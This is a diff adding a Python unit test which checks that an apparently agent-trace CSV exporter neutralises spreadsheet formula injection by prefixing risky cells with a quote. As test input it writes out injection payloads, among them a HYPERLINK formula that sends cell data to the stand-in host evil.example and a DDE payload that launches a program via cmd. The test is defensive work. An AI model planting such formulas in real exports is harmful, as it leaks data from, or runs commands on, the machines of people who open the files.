@@ -240,6 +240,28 @@ def test_csv_has_one_row_per_node_execution() -> None:
     assert table[2][8] == '["web_search","fetch_url"]'
 
 
+def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote() -> None:
+    trace = load("tool_timeout_failure.json")
+    nodes = trace.nodes_executed
+    nodes[0].node = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    nodes[0].error_message = "@SUM(A1:A9)"
+    nodes[1].node = "-1+1"
+    nodes[1].error_message = "+cmd|' /C calc'!A0"
+    nodes[2].error_message = "\t=1+1"
+    nodes[3].error_message = "a = b - c"  # a formula character later on: left alone
+    data, _rows = export("csv", trace)
+    table = list(csv.reader(io.StringIO(data.decode())))
+    assert (table[0][2], table[0][7]) == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "'@SUM(A1:A9)",
+    )
+    assert (table[1][2], table[1][7]) == ("'-1+1", "'+cmd|' /C calc'!A0")
+    assert table[2][7] == "'\t=1+1"
+    assert table[3][7] == "a = b - c"
+    # Numbers are ours, not text: an index stays a number.
+    assert table[0][1] == str(nodes[0].index)
+
+
 def test_only_csv_has_a_file_header() -> None:
     assert file_header("csv").endswith(b"\r\n")
     assert [f for f in FORMATS if file_header(f)] == ["csv"]
